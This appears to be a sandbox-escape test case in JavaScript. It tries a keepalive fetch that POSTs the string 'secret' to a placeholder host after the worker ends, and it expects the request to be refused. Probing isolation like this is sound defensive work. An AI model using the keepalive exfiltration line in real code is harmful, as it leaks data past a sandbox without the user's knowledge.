// A request that outlives who sends it.
// tries: send a request with `keepalive`, which the browser finishes when the worker is long gone
// must: be refused like any other request
// refusal: Failed to fetch|NetworkError|Load failed|no network
// status: timeout
// timeout: 5000
// control: heard
await fetch(OUT, { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true });
console.log('escaped: the request was sent');
